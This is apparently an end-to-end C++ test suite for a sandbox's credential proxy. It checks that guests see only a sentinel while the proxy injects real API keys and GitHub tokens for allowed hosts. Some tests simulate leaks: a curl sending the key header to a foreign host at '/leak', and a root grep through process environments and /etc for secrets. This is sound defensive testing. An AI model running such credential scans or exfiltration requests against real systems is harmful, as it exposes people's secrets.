// Credentials end to end: secretsd holds the value, the guest holds only a
// sentinel, proxyd places the value on allowed requests to the
// credential's hosts. Real guest, real daemons, loopback upstreams with a
// test CA standing in for api.anthropic.com and github.com (proxyd's
// --resolve map points those names at 127.0.0.1).
#include <grpcpp/grpcpp.h>
#include <signal.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <thread>

#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/strip.h"
#include "common/client.h"
#include "common/fd_io.h"
#include "common/paths.h"
#include "common/subprocess.h"
#include "common/testing/harness.h"
#include "gtest/gtest.h"
#include "protos/secrets/v1/secrets.grpc.pb.h"

namespace airlock {
namespace {

using testing::BinaryPath;

constexpr char kAnthropicKey[] = "sk-ant-REAL-5c1e7a9d";
constexpr char kGithubToken[] = "ghp_REAL0b3c4f5e6d7a";
constexpr char kCustomValue[] = "custom-REAL-9a8b7c";

// "abc" -> "ab[c]": a grep pattern that matches the text but not itself.
std::string Bracketed(const std::string& text) {
  return text.substr(0, text.size() - 1) + "[" + text.back() + "]";
}

using Server = testing::FixtureServer;

class SecretsE2ETest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ = new testing::ShortTempDir();
    env_ = new std::map<std::string, std::string>(testing::AirlockEnv(dir_->path()));
    const std::string d = dir_->path();
    auto certs =
        testing::MakeTestCerts(d, {"api.anthropic.com", "other.example.test", "github.com"});
    ASSERT_EQ(certs.exit_code, 0) << certs.err;
    // A bare repository for the git server standing in for github.com.
    auto sh = RunCommand(
        {"sh", "-c",
         "set -e; cd " + d +
             "; mkdir -p git && git init -q --bare git/repo.git && git clone -q git/repo.git w "
             "2>/dev/null && cd w && echo from-github > README && git add README && "
             "git -c user.email=t@t -c user.name=t commit -qm one && "
             "git push -q origin HEAD:refs/heads/main && "
             "git -C ../git/repo.git symbolic-ref HEAD refs/heads/main"});
    ASSERT_EQ(sh.exit_code, 0) << sh.err;
    https_ = testing::StartFixtureServer(d, "https",
                                         {"python3", BinaryPath("tests/fixtures/upstream.py"),
                                          "--tls", d + "/up.pem", d + "/up.key"});
    git_ = testing::StartFixtureServer(
        d, "git",
        {"python3", BinaryPath("tests/fixtures/git_http.py"), "--root", d + "/git", "--auth",
         std::string("x-access-token:") + kGithubToken, "--tls", d + "/up.pem", d + "/up.key"});
    ASSERT_GT(https_.port, 0);
    ASSERT_GT(git_.port, 0);
    MakeDirs(d + "/state", 0700).IgnoreError();
    std::ofstream(d + "/state/proxyd.conf")
        << "resolve = api.anthropic.com=127.0.0.1, other.example.test=127.0.0.1, "
           "github.com=127.0.0.1\nupstream-ca = "
        << d << "/ca.pem\n";
    ASSERT_EQ(Airlock({"policy", "init", "deny-all"}).exit_code, 0);
    ASSERT_EQ(Airlock({"policy", "allow", "network", "api.anthropic.com", "other.example.test",
                       "github.com"})
                  .exit_code,
              0);
    // Global: applies to sandboxes created after it.
    auto set = Airlock({"secret", "set", "-g", "anthropic", "-t", kAnthropicKey});
    ASSERT_EQ(set.exit_code, 0) << set.err;
    auto gh = Airlock(
        {"secret", "set", "-g", "github", "--command", std::string("printf ") + kGithubToken});
    ASSERT_EQ(gh.exit_code, 0) << gh.err;
    auto c = Airlock({"create", "--name", "sec", "-m", "1g", "shell"});
    ASSERT_EQ(c.exit_code, 0) << c.err;
    // The test CA, for hosts carried as opaque tunnels (no credential):
    // the guest then checks the upstream's own certificate.
    auto ca = Airlock({"exec", "sec", "--", "sh", "-c",
                       "cat > /tmp/testca.pem <<'EOF'\n" + ReadFileToString(d + "/ca.pem") +
                           "EOF\ncat /etc/ssl/certs/ca-certificates.crt /tmp/testca.pem > "
                           "/tmp/both.pem"});
    ASSERT_EQ(ca.exit_code, 0) << ca.err;
  }
  static void TearDownTestSuite() {
    Airlock({"rm", "-f", "--all"});
    Airlock({"daemon", "stop"});
    for (pid_t p : {https_.pid, git_.pid}) {
      if (p > 0) kill(p, SIGTERM);
    }
    delete env_;
    delete dir_;
  }
  static CommandResult Airlock(const std::vector<std::string>& args) {
    return testing::RunAirlock(*env_, args);
  }
  static CommandResult Guest(const std::string& script) {
    return Airlock({"exec", "sec", "--", "bash", "-c", script});
  }
  static std::string Url(const std::string& host, const std::string& path) {
    return absl::StrCat("https://", host, ":", https_.port, path);
  }

  static testing::ShortTempDir* dir_;
  static std::map<std::string, std::string>* env_;
  static Server https_, git_;
};

testing::ShortTempDir* SecretsE2ETest::dir_;
std::map<std::string, std::string>* SecretsE2ETest::env_;
Server SecretsE2ETest::https_, SecretsE2ETest::git_;

TEST_F(SecretsE2ETest, TheGuestOnlyEverSeesTheSentinel) {
  auto env = Airlock({"exec", "sec", "--", "env"});
  EXPECT_NE(env.out.find("ANTHROPIC_API_KEY=proxy-managed"), std::string::npos) << env.out;
  EXPECT_NE(env.out.find("GH_TOKEN=proxy-managed"), std::string::npos) << env.out;
  EXPECT_EQ(env.out.find(kAnthropicKey), std::string::npos);
  // As root: every process's environment, /etc, /home, /tmp, /run, /root.
  auto grep = Airlock({"exec", "-u", "root", "sec", "--", "bash", "-c",
                       // The last character as a class, so grep's own argv does not match.
                       std::string("grep -rasl -e '") + Bracketed(kAnthropicKey) + "' -e '" +
                           Bracketed(kGithubToken) + "'" +
                           " /proc/[0-9]*/environ /proc/[0-9]*/cmdline /etc /home /tmp /run "
                           "/root 2>/dev/null; echo scanned"});
  EXPECT_EQ(grep.out, "scanned\n") << "a real value is inside the guest: " << grep.out;
}

TEST_F(SecretsE2ETest, TheCredentialHostGetsTheRealKeyOthersOnlyTheSentinel) {
  for (const std::string flags : {"", "--noproxy '*' "}) {
    auto api = Guest("curl -sS -m 20 " + flags + "-H \"x-api-key: $ANTHROPIC_API_KEY\" " +
                     Url("api.anthropic.com", "/v1/messages") + " -d '{}'");
    EXPECT_NE(api.out.find(absl::StrCat("auth=", kAnthropicKey)), std::string::npos)
        << flags << api.out << api.err;
    auto other = Guest("curl -sS -m 20 --cacert /dev/null " + flags +
                       "-H \"x-api-key: $ANTHROPIC_API_KEY\" " +
                       Url("other.example.test", "/leak") + " 2>&1");
    EXPECT_EQ(other.out.find(kAnthropicKey), std::string::npos) << other.out;
  }
  // other.example.test is not a credential host: tunnelled, the guest sees
  // the upstream's own certificate; with it trusted, the upstream gets the
  // sentinel.
  auto other =
      Guest("curl -sS -m 20 --cacert /tmp/testca.pem -H \"x-api-key: $ANTHROPIC_API_KEY\" " +
            Url("other.example.test", "/leak"));
  EXPECT_NE(other.out.find("auth=proxy-managed"), std::string::npos) << other.out << other.err;
  auto log = Airlock({"policy", "log", "--json", "--sandbox", "sec"});
  EXPECT_NE(log.out.find("\"anthropic@global\""), std::string::npos)
      << "the log names the credential placed (never its value): " << log.out;
  EXPECT_EQ(log.out.find(kAnthropicKey), std::string::npos);
}

TEST_F(SecretsE2ETest, GitCloneOverHttpsWithAGithubCredential) {
  auto r = Guest(absl::StrCat("cd /tmp && rm -rf c && git clone -q https://github.com:", git_.port,
                              "/repo.git c && cat c/README"));
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("from-github"), std::string::npos) << r.out << r.err;
}

TEST_F(SecretsE2ETest, CustomSecretForOneSandboxTakesEffectAtOnce) {
  auto set = Airlock({"secret", "set-custom", "--sandbox", "sec", "--host", "other.example.test",
                      "--env", "MY_TOKEN", "--value", kCustomValue});
  ASSERT_EQ(set.exit_code, 0) << set.err;
  auto env = Guest("echo $MY_TOKEN");
  EXPECT_EQ(env.out.rfind("sbx-cs-", 0), 0u) << env.out;
  auto r = Guest("curl -sS -m 20 -H \"Authorization: token $MY_TOKEN\" " +
                 Url("other.example.test", "/custom"));
  EXPECT_NE(r.out.find(absl::StrCat("auth=token ", kCustomValue)), std::string::npos)
      << r.out << r.err;
  // A placeholder inside a compressed body cannot be placed: refused, 422.
  auto gz = Guest(
      "printf '{\"t\":\"%s\"}' \"$MY_TOKEN\" | gzip | curl -sS -m 20 -o /dev/null "
      "-w '%{http_code}' -H 'Content-Encoding: gzip' --data-binary @- " +
      Url("other.example.test", "/gz"));
  EXPECT_EQ(gz.out, "422") << gz.out << gz.err;
  ASSERT_EQ(Airlock({"secret", "rm", "custom:MY_TOKEN@sec"}).exit_code, 0);
}

TEST_F(SecretsE2ETest, RemovingASecretTakesEffectOnTheNextRequest) {
  // With the secret gone the host is tunnelled, not intercepted: the guest
  // then checks the upstream's own (test CA) certificate, so it trusts both.
  // The sentinel is written out: after rm the guest's environment no longer
  // has the variable at all.
  std::string req = "curl -sS -m 20 --cacert /tmp/both.pem -H 'x-api-key: proxy-managed' " +
                    Url("api.anthropic.com", "/v1/next");
  EXPECT_NE(Guest(req).out.find(kAnthropicKey), std::string::npos);
  ASSERT_EQ(Airlock({"secret", "rm", "-g", "anthropic"}).exit_code, 0);
  auto after = Guest(req);
  EXPECT_EQ(after.out.find(kAnthropicKey), std::string::npos) << after.out;
  EXPECT_NE(after.out.find("auth=proxy-managed"), std::string::npos) << after.out << after.err;
  ASSERT_EQ(Airlock({"secret", "set", "-g", "anthropic", "-t", kAnthropicKey}).exit_code, 0);
}

// proxyd keeps what secretsd resolved while secretsd's revision watch
// vouches for it. A proxyd that cannot hear of a change (frozen here) must
// neither hold the change up past its lease nor place the removed secret
// once it runs again.
TEST_F(SecretsE2ETest, ARemovalReachesAFrozenProxydsNextRequest) {
  // A sandbox secret (it applies at once, and hides the global one), with
  // a value of its own.
  const std::string value = "sk-ant-frozen-proxyd-0123456789";
  ASSERT_EQ(Airlock({"secret", "set", "sec", "anthropic", "-t", value}).exit_code, 0);
  std::string req = "curl -sS -m 20 --cacert /tmp/both.pem -H 'x-api-key: proxy-managed' " +
                    Url("api.anthropic.com", "/v1/frozen");
  // Twice: the second is placed from what proxyd kept.
  EXPECT_NE(Guest(req).out.find(value), std::string::npos);
  EXPECT_NE(Guest(req).out.find(value), std::string::npos);
  pid_t proxyd = 0;
  ASSERT_TRUE(absl::SimpleAtoi(
      absl::StripAsciiWhitespace(ReadFileToString(dir_->path() + "/run/proxyd.pid")), &proxyd));
  ASSERT_EQ(kill(proxyd, SIGSTOP), 0);
  auto start = std::chrono::steady_clock::now();
  auto rm = Airlock({"secret", "rm", "sec", "anthropic"});
  auto took = std::chrono::steady_clock::now() - start;
  ASSERT_EQ(kill(proxyd, SIGCONT), 0);
  ASSERT_EQ(rm.exit_code, 0) << rm.err;
  // secretsd waited out proxyd's lease (1 s after its last answered ping,
  // at most a quarter second before the freeze), not an acknowledgement.
  EXPECT_GE(took, std::chrono::milliseconds(700));
  EXPECT_LT(took, std::chrono::seconds(10));
  auto after = Guest(req);
  EXPECT_EQ(after.out.find(value), std::string::npos) << after.out;
  EXPECT_NE(after.out.find("auth="), std::string::npos) << after.out << after.err;
}

TEST_F(SecretsE2ETest, SecretsdFilesAndLogsHoldNoPlaintext) {
  std::string all;
  for (const char* f : {"/state/secretsd.db", "/state/secretsd.db-wal", "/state/secretsd.db-shm",
                        "/state/logs/secretsd.log", "/state/logs/proxyd.log",
                        "/state/logs/vmmd.log", "/state/proxyd.db", "/state/proxyd.db-wal"}) {
    all += ReadFileToString(dir_->path() + f);
  }
  ASSERT_FALSE(all.empty());
  EXPECT_EQ(all.find(kAnthropicKey), std::string::npos);
  EXPECT_EQ(all.find(kGithubToken), std::string::npos);
  EXPECT_EQ(all.find(kCustomValue), std::string::npos);
  auto ls = Airlock({"secret", "ls", "--json"});
  EXPECT_NE(ls.out.find("anthropic@global"), std::string::npos) << ls.out;
  EXPECT_EQ(ls.out.find(kAnthropicKey), std::string::npos);
}

TEST_F(SecretsE2ETest, OnlyProxydMayResolve) {
  auto stub = airlock::secrets::v1::Secrets::NewStub(DialUnix(dir_->path() + "/run/secretsd.sock"));
  grpc::ClientContext ctx;
  airlock::secrets::v1::ResolveRequest req;
  req.set_sandbox("sec");
  req.set_host("api.anthropic.com");
  airlock::secrets::v1::ResolveResponse resp;
  grpc::Status s = stub->Resolve(&ctx, req, &resp);
  EXPECT_EQ(s.error_code(), grpc::StatusCode::PERMISSION_DENIED) << s.error_message();
  EXPECT_EQ(resp.credentials_size(), 0);
}

}  // namespace
}  // namespace airlock
